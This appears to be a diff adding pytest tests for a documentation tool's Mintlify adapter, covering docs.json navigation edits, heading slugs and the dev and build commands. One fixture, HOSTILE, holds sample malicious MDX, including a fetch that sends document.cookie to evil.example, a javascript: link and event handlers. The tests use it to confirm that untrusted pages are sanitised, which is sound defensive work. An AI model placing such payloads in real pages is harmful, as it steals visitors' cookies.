@@ -1,0 +1,266 @@
+"""The Mintlify adapter: the docs.json edit, MDX pages (links, components, the sandbox) and
+`miles-docs mintlify dev`."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from support import CORPUS, git, lock_text, make_repo, run, write
+
+from miles_docs_plugin.mintlify_host import Placement, insert_nav, mintlify_slug
+
+DOCS_JSON = CORPUS / "miles_host" / "tree" / "docs" / "docs.json"
+
+
+def _diffusion_tab(text: str) -> dict[str, object]:
+    tabs = json.loads(text)["navigation"]["tabs"]
+    return next(t for t in tabs if t["tab"] == "Diffusion")
+
+
+def _outside(after: str, at: int, block: str) -> str:
+    """``after`` without the inserted block (so it must equal the file before the edit)."""
+    assert after[at:at + len(block)] == block
+    return after[:at] + after[at + len(block):]
+
+
+def test_insert_reproduces_the_hand_edit_of_docs_json(tmp_path: Path) -> None:
+    """Commit B's docs.json + the generated tab is commit A's docs.json, byte for byte."""
+    a = DOCS_JSON.read_text()
+    tab = _diffusion_tab(a)
+    b_dir = tmp_path / "b"
+    b_dir.mkdir()
+    (b_dir / "docs.json").write_text(a)
+    diff = CORPUS / "miles_host" / "commit_b.diff"
+    git(b_dir, "init", "-q")
+    git(b_dir, "apply", "--unidiff-zero", "-p2", str(diff))
+    b = (b_dir / "docs.json").read_text()
+    assert b != a
+    new, at, block = insert_nav(b, tab, Placement("Diffusion", None, "Developer Guide", None),
+                                "docs.json")
+    assert new == a
+    assert _outside(new, at, block) == b
+
+
+@pytest.mark.parametrize("newline,indent", [("\r\n", "\t"), ("\n", "    ")])
+def test_insert_keeps_formatting_and_changes_only_its_lines(newline: str, indent: str) -> None:
+    doc = {"name": "x", "zeta": 1, "alpha": {"b": 2},
+           "navigation": {"tabs": [{"tab": "Guide", "pages": ["index"]},
+                                   {"tab": "API", "groups": [{"group": "Ref",
+                                                              "pages": ["api/a", "api/b"]}]}]}}
+    text = json.dumps(doc, indent=indent).replace("\n", newline) + newline
+    obj = {"tab": "Diffusion", "pages": ["diffusion/index", {"group": "G",
+                                                              "pages": ["diffusion/a"]}]}
+    for place in (Placement("Diffusion", None, None, "API"),
+                  Placement("Diffusion", None, "Guide", None),
+                  Placement("Diffusion", None, None, None)):
+        new, at, block = insert_nav(text, obj, place, "docs.json")
+        # every byte outside the inserted block is the host's
+        assert _outside(new, at, block) == text
+        if newline == "\r\n":
+            assert "\n" not in block.replace("\r\n", "")
+        lines = block.replace("\r\n", "\n").split("\n")
+        assert all(line.startswith(indent * 3) for line in lines[1:] if line.strip()), lines
+        tabs = json.loads(new)["navigation"]["tabs"]
+        assert [t["tab"] for t in tabs] == (
+            ["Guide", "Diffusion", "API"] if place.before or place.after else
+            ["Guide", "API", "Diffusion"])
+        assert list(json.loads(new)) == list(doc)  # key order kept
+    # a group inside an existing tab
+    group = {"group": "Diffusion", "pages": ["diffusion/index"]}
+    new, at, block = insert_nav(text, group, Placement("API", "Diffusion", None, "Ref"),
+                                "docs.json")
+    assert _outside(new, at, block) == text
+    api = json.loads(new)["navigation"]["tabs"][1]
+    assert [g["group"] for g in api["groups"]] == ["Diffusion", "Ref"]
+
+
+def test_mintlify_heading_ids_follow_the_renderer() -> None:
+    # the rules of @mintlify/common's slugify (checked against `mint broken-links
+    # --check-anchors` on the Miles host: "## 3. Setup" is #3-setup, not GitHub's #3-setup)
+    assert mintlify_slug("3. Setup") == "3-setup"
+    assert mintlify_slug("3.3 Colocated vs disaggregated rollout") == \
+        "3-3-colocated-vs-disaggregated-rollout"
+    assert mintlify_slug("What's new") == "whats-new"
+    assert mintlify_slug("Gemma 4 (E2B)") == "gemma-4-e2b"
+
+
+# -- a small host and upstream -------------------------------------------------------------------
+
+HOST_DOCS_JSON = """\
+{
+  "name": "Host",
+  "navigation": {
+    "tabs": [
+      {
+        "tab": "Guide",
+        "pages": [
+          "index"
+        ]
+      }
+    ]
+  }
+}
+"""
+
+
+def _host(tmp_path: Path, repo: Path, commit: str | None, extra: str = "") -> Path:
+    docs = tmp_path / "host" / "docs"
+    write(docs / "docs.json", HOST_DOCS_JSON)
+    write(docs / "index.md", "---\ntitle: Home\n---\n\nSee [the section](/diffusion).\n")
+    write(docs / "miles-docs.yml", f"sources:\n  - name: diffusion\n    repo: {repo.as_uri()}\n"
+          f"    web_url: https://github.com/o/up\n{extra}")
+    if commit:
+        write(docs / "miles-docs.lock", lock_text({"diffusion": (repo.as_uri(), commit)}))
+    git(docs.parent, "init", "-q")
+    git(docs.parent, "add", "-A")
+    git(docs.parent, "commit", "-q", "-m", "host", "--allow-empty")
+    return docs
+
+
+def _cli(docs: Path, *args: str,
+         env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "miles_docs_plugin.cli", "mintlify", *args],
+                          cwd=docs, capture_output=True, text=True, check=False,
+                          env={**os.environ, **(env or {})})
+
+
+HOSTILE = """\
+---
+title: Hostile
+icon: https://evil.example/track.png
+openapi: GET /steal
+---
+import { Steal } from "https://evil.example/x.js"
+export const leak = fetch("https://evil.example/?" + document.cookie)
+
+# Hostile
+
+Text {fetch("https://evil.example/" + document.cookie)} and `{kept in code}`.
+
+<Card title="Go" href="javascript:alert(1)" onClick={() => steal()}>
+  Card body with a [link](other.md#section-two).
+</Card>
+
+<CardGroup cols={2}>
+<div onmouseover="steal()">hover</div>
+</CardGroup>
+
+<script>steal()</script>
+
+```js
+const inCode = {a: 1};
+```
+"""
+
+OTHER = """\
+# Other
+
+## Section Two
+
+<Note>
+  A note with [a page link](hostile.md).
+</Note>
+"""
+
+
+def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) -> None:
+    commit = make_repo(tmp_path / "up", {"docs/hostile.md": HOSTILE, "docs/other.md": OTHER})
+    docs = _host(tmp_path, tmp_path / "up", commit)
+    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
+    assert done.returncode == 0, done.stderr
+    page = (tmp_path / "out" / "diffusion" / "hostile.md").read_text()
+    for bad in ("import {", "export const", "onClick", "onmouseover", "javascript:",
+                "<script>", "icon:", "openapi", "evil.example/track"):
+        assert bad not in page, bad
+    assert "Text \\{fetch(" in page  # an expression becomes literal text
+    assert "`{kept in code}`" in page and "const inCode = {a: 1};" in page
+    assert '<CardGroup cols={2}>' in page  # a literal attribute is harmless
+    assert '<Card title="Go" href="#"' in page
+    assert "[link](/diffusion/other#section-two)" in page
+    assert 'title: "Hostile"' in page or "title: Hostile" in page
+    lines = HOSTILE.splitlines()
+    for needle in ("import {", "export const", "Text {", "onClick", "<script>", "icon:"):
+        line = next(i for i, text in enumerate(lines, 1) if needle in text)
+        assert f"docs/hostile.md:{line}:" in done.stderr, (needle, done.stderr)
+    assert "javascript: links are not allowed" in done.stderr
+    # components of the other page pass through untouched, links rewritten
+    other = (tmp_path / "out" / "diffusion" / "other.md").read_text()
+    assert "<Note>\n  A note with [a page link](/diffusion/hostile).\n</Note>" in other
+    # a trusted source keeps its MDX
+    docs2 = _host(tmp_path / "trusted", tmp_path / "up", commit, "    trust: full\n")
+    done = _cli(docs2, "build", "--out", str(tmp_path / "out2"))
+    assert done.returncode == 0, done.stderr
+    page = (tmp_path / "out2" / "diffusion" / "hostile.md").read_text()
+    assert "import { Steal }" in page and "onClick={() => steal()}" in page
+
+
+def test_dev_writes_a_generated_folder_and_follows_a_working_copy(tmp_path: Path,
+                                                                  cache_dir: Path) -> None:
+    commit = make_repo(tmp_path / "up", {"docs/index.md": "# Up\n\nSee [other](other.md).\n",
+                                         "docs/other.md": OTHER})
+    docs = _host(tmp_path, tmp_path / "up", commit,
+                 "    mintlify:\n      tab: Diffusion\n      before: Guide\n")
+    before = (docs / "docs.json").read_bytes()
+    done = _cli(docs, "dev", "--once")
+    assert done.returncode == 0, done.stderr
+    folder = docs / "diffusion"
+    assert (folder / ".miles-docs-generated").is_file()
+    assert (folder / ".gitignore").read_text().endswith("*\n")
+    assert "[other](/diffusion/other)" in (folder / "index.md").read_text()
+    nav = json.loads((folder / "miles-docs-nav.json").read_text())
+    assert nav == {"tab": "Diffusion", "pages": ["diffusion/index", "diffusion/other"]}
+    assert '{ "$ref": "diffusion/miles-docs-nav.json" },' in done.stdout
+    assert "before the tab 'Guide'" in done.stdout and "mint" in done.stdout
+    assert (docs / "docs.json").read_bytes() == before  # never a rewrite of the user's file
+    assert git(docs.parent, "status", "--porcelain") == ""  # the folder ignores itself
+
+    # with the $ref line added, mint's input is complete and the build keeps docs.json as is
+    text = before.decode().replace('"tabs": [\n', '"tabs": [\n      { "$ref": '
+                                   '"diffusion/miles-docs-nav.json" },\n')
+    (docs / "docs.json").write_text(text)
+    done = _cli(docs, "dev", "--once")
+    assert "$ref" not in done.stdout
+    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
+    assert done.returncode == 0, done.stderr
+    assert (tmp_path / "out" / "docs.json").read_text() == text
+    assert json.loads((tmp_path / "out" / "diffusion" / "miles-docs-nav.json").read_text()) == nav
+    assert not (tmp_path / "out" / "diffusion" / ".gitignore").exists()
+
+    # a local working copy: an edit shows in the folder within a second
+    local = tmp_path / "work"
+    git(tmp_path, "clone", "-q", str(tmp_path / "up"), str(local))
+    env = {"MILES_DOCS_LOCAL_DIFFUSION": str(local), "PYTHONUNBUFFERED": "1"}
+    proc = subprocess.Popen([sys.executable, "-m", "miles_docs_plugin.cli", "mintlify", "dev",
+                             "--interval", "0.1"], cwd=docs, env={**os.environ, **env},
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        deadline = time.monotonic() + 60
+        while "local working copy" not in (folder / "index.md").read_text():
+            assert proc.poll() is None and time.monotonic() < deadline
+            time.sleep(0.05)
+        (local / "docs" / "other.md").write_text("# Other\n\nEdited locally.\n")
+        edited = time.monotonic()
+        while "Edited locally" not in (folder / "other.md").read_text():
+            assert time.monotonic() - edited < 1.0, "the edit did not show within a second"
+            time.sleep(0.02)
+    finally:
+        proc.terminate()
+        proc.wait(10)
+
+
+def test_build_refuses_an_output_folder_it_did_not_write(tmp_path: Path,
+                                                         cache_dir: Path) -> None:
+    commit = make_repo(tmp_path / "up", {"docs/index.md": "# Up\n"})
+    docs = _host(tmp_path, tmp_path / "up", commit)
+    out = tmp_path / "out"
+    write(out / "precious.txt", "mine")
+    done = run([sys.executable, "-m", "miles_docs_plugin.cli", "mintlify", "build", "--out",
+                str(out)], cwd=docs)
+    assert done.returncode == 2 and "not written by miles-docs" in done.stderr
+    assert (out / "precious.txt").read_text() == "mine"
